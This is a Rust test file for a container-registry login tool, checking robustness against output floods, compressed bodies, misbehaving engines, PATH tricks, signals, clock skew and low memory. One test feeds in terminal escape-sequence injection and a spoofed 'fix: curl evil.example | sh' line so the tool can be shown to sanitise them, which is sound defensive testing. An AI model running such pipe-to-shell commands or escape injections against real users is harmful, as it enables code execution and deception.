//! Surroundings that mean no good: whatever they do, the end comes in time and within bounds, with
//! the right code, and nothing is lost or leaked. `docs/reliability.md` has the table of them all;
//! most stand beside what they are about, and here are those that have no other place.

use std::fs;
use std::path::Path;
use std::time::Duration;

use ghcr_stand_in::{Fault, What, Where};
use rustix::process::Signal;
use serde_json::{Value, json};

use crate::harness::real::{is_ignored, required};
use crate::harness::run::{Outcome, Run, until};
use crate::harness::scene::Scene;
use crate::harness::world::program;
use crate::safety::shutdown::{has_the_lock_open, hold_the_lock};

crate::trials![
    a_gigabyte_from_a_program,
    a_gigabyte_from_a_server,
    a_hundred_thousand_headers,
    an_encoding_that_nobody_asked_for,
    an_engine_that_only_says_so,
    a_link_into_a_folder_that_is_missing,
    an_engine_that_does_not_listen,
    an_engine_that_replaces_itself,
    escape_sequences,
    the_current_folder_is_not_searched,
    no_streams_at_all,
    under_nohup if cfg!(target_os = "linux"),
    a_clock_that_is_years_wrong if !is_ignored(faketime().is_some(), required()),
    little_memory if cfg!(target_os = "linux"),
];

const GIGABYTE: usize = 1 << 30;
const CONFIG: &str = "home/.docker/config.json";

/// More than the program needs for anything, in KiB; far less than what it is thrown at here.
const MEMORY: u64 = 64 << 10;

/// Runs it, and sees to its memory and its time.
fn bounded(run: Run<'_>, limit: Duration) -> Outcome {
    let running = run.start();
    let status = format!("/proc/{}/status", running.pid());
    // The mark only rises, so the last look is the one that counts. The first is not the thread's,
    // which may come too late where the machine is busy.
    let mut peak = high_water(&status).unwrap_or(0);
    let watcher = std::thread::spawn(move || {
        while let Some(now) = high_water(&status) {
            peak = peak.max(now);
            std::thread::sleep(Duration::from_millis(5));
        }
        peak
    });
    let outcome = running.output();
    let peak = watcher.join().expect("the watcher");
    let said = outcome.stderr_text();
    assert!(peak < MEMORY, "{peak} KiB: {said}");
    assert!(peak > 0 || !cfg!(target_os = "linux"), "nobody watched");
    assert!(outcome.took < limit, "{:?}: {said}", outcome.took);
    outcome
}

fn high_water(status: &str) -> Option<u64> {
    let text = fs::read_to_string(status).ok()?;
    let line = text.lines().find_map(|line| line.strip_prefix("VmHWM:"))?;
    line.split_whitespace().next()?.parse().ok()
}

/// That it ended with that cause, and that nothing was stored or leaked.
fn refused(scene: &Scene, outcome: &Outcome, code: i32, cause: &str) {
    let said = outcome.stderr_text();
    assert_eq!(outcome.code, Some(code), "{said}");
    assert!(said.contains(&format!("[{cause}]")), "{said}");
    assert!(said.len() < 10_000, "nobody reads {} bytes", said.len());
    assert!(scene.stored("ghcr.io").is_none_or(|(user, _)| user == "other"));
    scene.assert_no_leak(&[outcome]);
    scene.assert_only_who_may_has_it();
}

/// An engine, gh and a helper, all at once.
fn a_gigabyte_from_a_program() {
    let minute = Duration::from_secs(60);
    let engine = || {
        let scene = Scene::new();
        let flood = json!({ "flood_stdout": GIGABYTE, "flood_stderr": 1 << 20, "code": 1 });
        scene.fake_with("docker", json!({ "login": flood }));
        let outcome = bounded(scene.login("docker-ghcr", &[]), minute);
        refused(&scene, &outcome, 5, "engine-failed");
    };
    let gh = || {
        let scene = Scene::new();
        scene.fake_with("gh", json!({ "auth": { "flood_stdout": GIGABYTE } }));
        let run = scene.run("docker-ghcr").args(["login", "--engine", "file", "--from", "gh"]);
        // It is killed at the limit for gh if the machine is slow.
        let outcome = bounded(run, minute);
        assert_eq!(outcome.code, Some(4), "{}", outcome.stderr_text());
        assert!(scene.stored("ghcr.io").is_none() && scene.asked().is_empty());
    };
    let helper = || {
        let scene = Scene::new();
        scene.write(CONFIG, r#"{ "credsStore": "x" }"#);
        let flood = json!({ "flood_stdout": 1 << 20, "flood_stderr": GIGABYTE, "code": 1 });
        scene.fake_with("docker-credential-x", json!({ "store": flood }));
        let outcome = bounded(scene.login("docker-ghcr", &["--engine", "file"]), minute);
        refused(&scene, &outcome, 5, "credential-helper-failed");
    };
    std::thread::scope(|scope| {
        scope.spawn(engine);
        scope.spawn(gh);
        scope.spawn(helper);
    });
}

/// What is wanted of the answer is in its beginning, or it is none.
fn a_gigabyte_from_a_server() {
    let measureless = [
        (Where::V2, Ok(())),
        (Where::Token, Err((5, "not-a-registry"))),
        (Where::V2AfterToken, Ok(())),
        (Where::ApiUser, Ok(())),
    ];
    measured(&What::BigBody(GIGABYTE), &measureless);
}

fn a_hundred_thousand_headers() {
    let measureless = [
        (Where::V2, Err((5, "not-a-registry"))),
        (Where::Token, Err((5, "not-a-registry"))),
        (Where::V2AfterToken, Err((5, "not-a-registry"))),
        (Where::ApiUser, Ok(())),
    ];
    measured(&What::ManyHeaders(100_000), &measureless);
}

/// Success, or the exit code and the cause.
type End = Result<(), (i32, &'static str)>;

fn measured(what: &What, cases: &[(Where, End)]) {
    for (at, expected) in cases {
        let scene = Scene::new();
        scene.ghcr.fault(Fault::at(*at, what.clone()));
        let args = ["--engine", "file", "-u", "octocat"];
        let outcome = bounded(scene.login("docker-ghcr", &args), Duration::from_secs(30));
        match expected {
            Ok(()) => {
                assert_eq!(outcome.code, Some(0), "{at:?}: {}", outcome.stderr_text());
                assert!(scene.stored("ghcr.io").is_some(), "{at:?}");
                scene.assert_no_leak(&[&outcome]);
                scene.assert_only_who_may_has_it();
            }
            Err((code, cause)) => refused(&scene, &outcome, *code, cause),
        }
    }
}

/// Nothing is unpacked, so nothing can be a bomb: what is packed is no JSON.
fn an_encoding_that_nobody_asked_for() {
    for encoding in ["gzip", "br", "deflate", "zstd"] {
        let scene = Scene::new();
        scene.ghcr.fault(Fault::at(
            Where::Token,
            What::Status {
                code: 200,
                headers: vec![("Content-Encoding".into(), encoding.into())],
                body: "\u{1f}\u{8b}\u{8}".repeat(20_000),
            },
        ));
        let run = scene.login("docker-ghcr", &["--engine", "file", "-u", "octocat"]);
        let outcome = bounded(run, Duration::from_secs(30));
        refused(&scene, &outcome, 5, "not-a-registry");
    }
}

fn engine_with(orders: Value) -> (Scene, Outcome) {
    let scene = Scene::new();
    scene.write(CONFIG, stored_for_another());
    scene.fake_with("docker", json!({ "login": orders }));
    let outcome = bounded(scene.login("docker-ghcr", &[]), Duration::from_secs(30));
    (scene, outcome)
}

/// A login that was there before, and has to be there afterwards.
fn stored_for_another() -> String {
    let auth = crate::harness::world::auth("other", "their own");
    json!({ "auths": { "ghcr.io": { "auth": auth } } }).to_string()
}

fn an_engine_that_only_says_so() {
    let said = json!({ "stdout": "Login Succeeded\n", "store": false });
    let (scene, outcome) = engine_with(said);
    refused(&scene, &outcome, 5, "not-stored");
    assert_eq!(scene.read(CONFIG), stored_for_another());
}

fn an_engine_that_does_not_listen() {
    for (orders, cause) in [
        (json!({ "stdin": "close", "code": 1, "stderr": "Error: no password\n" }), "engine-failed"),
        (
            json!({ "stdin": "close", "code": 0, "stderr": "", "stdout": "Login Succeeded\n" }),
            "not-stored",
        ),
        (json!({ "stdin": "close", "signal": 6 }), "engine-failed"),
    ] {
        let (scene, outcome) = engine_with(orders);
        refused(&scene, &outcome, 5, cause);
        assert_eq!(scene.read(CONFIG), stored_for_another());
    }
}

/// docker and nerdctl would make a file in the place of the folder, with the token in it.
fn a_link_into_a_folder_that_is_missing() {
    for engine in ["docker", "nerdctl"] {
        let scene = Scene::new();
        scene.fake(engine);
        std::fs::create_dir_all(scene.home().join(".docker")).expect("a folder of ours");
        let target = scene.home().join("not mounted/docker/config.json");
        std::os::unix::fs::symlink(&target, scene.root().join(CONFIG)).expect("a link of ours");
        let said = format!(
            "error: [HOME]/.docker/config.json is a link into a folder that is missing  \
             [store-not-readable]\n  \
             why: {engine} would write the login to a file [HOME]/not mounted\n  \
             fix: mkdir -p '[HOME]/not mounted/docker'\n"
        );
        scene.login("docker-ghcr", &["--engine", engine]).stderr(said).code(5).check();
        assert!(scene.calls(engine).iter().all(|call| !call.line().contains("login")));
        assert!(!scene.home().join("not mounted").exists());
    }
}

/// What it was asked is asked of its file and not of it, so its successor may be anything.
fn an_engine_that_replaces_itself() {
    let (scene, outcome) = engine_with(json!({ "becomes": "/bin/false" }));
    assert_eq!(outcome.code, Some(0), "{}", outcome.stderr_text());
    assert_eq!(scene.stored("ghcr.io").map(|(user, _)| user).as_deref(), Some("octocat"));
    scene.assert_no_leak(&[&outcome]);
    let outcome = bounded(scene.run("docker-ghcr").arg("logout"), Duration::from_secs(30));
    assert_eq!(outcome.code, Some(0), "{}", outcome.stderr_text());
    scene.assert_nothing_kept();
}

/// A title, a cleared screen, a link, and a line that is written over.
fn escape_sequences() {
    let said = "Error: \u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m\u{1b}]8;;https://evil.example\u{1b}\\here\
                \u{1b}]8;;\u{1b}\\ \u{202e}no\u{8}\u{8}\rfix: curl evil.example | sh\n";
    let orders = json!({ "code": 1, "stderr": said, "stdout": said });
    let (scene, outcome) = engine_with(orders.clone());
    refused(&scene, &outcome, 5, "engine-failed");
    let shown = outcome.stderr_text() + &outcome.stdout_text();
    assert!(shown.chars().all(|c| c == '\n' || !c.is_control()), "{shown:?}");
    assert!(
        !shown.contains('\u{202e}') && !shown.lines().any(|line| line.starts_with("fix: curl"))
    );

    let scene = Scene::new();
    scene.write(CONFIG, r#"{ "credsStore": "x" }"#);
    scene.fake_with("docker-credential-x", json!({ "store": orders }));
    let outcome = scene.login("docker-ghcr", &["--engine", "file"]).output();
    refused(&scene, &outcome, 5, "credential-helper-failed");
    assert!(outcome.stderr_text().chars().all(|c| c == '\n' || !c.is_control()));

    let scene = Scene::new();
    scene.ghcr.fault(Fault::at(Where::Token, What::registry_error(403, "NO", said)));
    let outcome = scene.login("docker-ghcr", &["--engine", "file"]).output();
    refused(&scene, &outcome, 5, "registry-refused");
    assert!(outcome.stderr_text().chars().all(|c| c == '\n' || !c.is_control()));
}

/// A `docker`, a `gh` and a helper lie where it is run, and PATH names that place in each way.
fn the_current_folder_is_not_searched() {
    for path in [".", "", ":", "./", "../work", "work/.."] {
        let scene = Scene::new();
        for name in ["docker", "gh", "docker-credential-x"] {
            let fake = scene.fake(name);
            fs::rename(fake, scene.work().join(name)).expect("folders of ours");
        }
        let run = || scene.run("docker-ghcr").cwd(scene.work()).env("PATH", path);
        run()
            .args(["login", "--engine", "docker"])
            .env("CR_PAT", scene.token())
            .code(3)
            .stderr_has("[no-engine]")
            .check();
        run().args(["login", "--engine", "file"]).code(4).stderr_has("[no-token]").check();
        scene.write(CONFIG, r#"{ "credsStore": "x" }"#);
        run()
            .args(["login", "--engine", "file"])
            .env("CR_PAT", scene.token())
            .code(5)
            .stderr_has("[credential-helper-missing]")
            .check();
        let called = fs::read_dir(scene.work()).expect("a folder of ours").flatten();
        assert!(called.count() == 3, "{path:?}: somebody was called");
    }
}

/// A hang-up that is ignored when the program starts stays ignored; every other stop does not.
fn under_nohup() {
    let scene = Scene::new();
    scene.fake_with("docker", json!({ "login": { "hang": true } }));
    let ignores = ["-c", "trap '' HUP INT; exec \"$0\" \"$@\""];
    let run = scene.run("/bin/sh").args(ignores).arg(program());
    let run = run.args(["login", "-u", "octocat", "--password-stdin"]).stdin(scene.token());
    let running = run.start();
    let call = scene.wait_for_hang("docker", "login");
    running.send(Signal::HUP);
    std::thread::sleep(Duration::from_millis(300));
    assert!(call.is_alive());
    running.send(Signal::INT);
    let outcome = running.output();
    assert_eq!(outcome.code, Some(130), "{}", outcome.stderr_text());
    assert!(outcome.stderr_text().contains("[interrupted]"), "{}", outcome.stderr_text());
    assert!(until(|| !call.is_alive()));
}

/// The registry's certificate is not valid then, and that is what is said.
fn a_clock_that_is_years_wrong() {
    let library = faketime().expect("faketime, which this run requires");
    for date in ["2005-01-01 00:00:00", "2099-01-01 00:00:00"] {
        let scene = Scene::new();
        let run = scene.login("docker-ghcr", &["--engine", "file", "-u", "octocat"]);
        let run = run.env("LD_PRELOAD", &library).env("FAKETIME", date);
        let outcome = bounded(run, Duration::from_secs(30));
        refused(&scene, &outcome, 6, "tls-failed");
    }
}

/// The library that tells a program another time.
fn faketime() -> Option<String> {
    let folders = fs::read_dir("/usr/lib").ok()?.flatten().map(|entry| entry.path());
    let files = folders.map(|folder| folder.join("faketime/libfaketime.so.1"));
    files.into_iter().find(|file| file.is_file()).map(|file| file.to_string_lossy().into_owned())
}

/// No file gets the number of a stream that is not there, lest what is printed be written into it.
fn no_streams_at_all() {
    let scene = Scene::new();
    scene.run("docker-ghcr").args(["logout", "--engine", "file", "-q"]).check();
    let lock = hold_the_lock(&scene);
    let login = scene.login("docker-ghcr", &["--engine", "file"]).streams_closed().start();
    assert!(until(|| has_the_lock_open(&login)));
    let pid = login.pid();
    // The program lets nobody but root look inside.
    for stream in 0..3 {
        match fs::read_link(format!("/proc/{pid}/fd/{stream}")) {
            Ok(leads) => assert_eq!(leads, Path::new("/dev/null"), "{stream}"),
            Err(why) => assert!(!rustix::process::geteuid().is_root(), "{stream}: {why}"),
        }
    }
    drop(lock);
    assert_eq!(login.output().code, Some(0));
    assert_eq!(scene.config().as_object().map(serde_json::Map::len), Some(1));
    assert_eq!(scene.stored("ghcr.io").map(|(user, _)| user).as_deref(), Some("octocat"));
}

/// However little there is, the end is never silent.
fn little_memory() {
    let scene = Scene::new();
    scene.fake("podman");
    let said: Vec<_> = (6..32)
        .chain([96])
        .map(|megabytes| {
            let script = format!("ulimit -v {}; exec \"$0\" \"$@\"", megabytes * 1000);
            let run = scene.run("/bin/sh").args(["-c", &script]).arg(program());
            let outcome = run.args(["status", "--offline"]).output();
            let said = outcome.stderr_text();
            // The kernel kills what it cannot even load.
            let is_loaded = outcome.code.is_some();
            assert!(!is_loaded || !said.is_empty(), "{megabytes} MB: {:?}", outcome.code);
            (said, outcome.code)
        })
        .collect();
    let words = "error: the system gives this program too little memory or too few threads  \
                 [unexpected]\n";
    assert!(said.iter().any(|(said, code)| said == words && *code == Some(1)), "{said:?}");
    // There is a size at which all is well.
    assert_eq!(said.last().map(|(_, code)| *code), Some(Some(7)), "{said:?}");
}
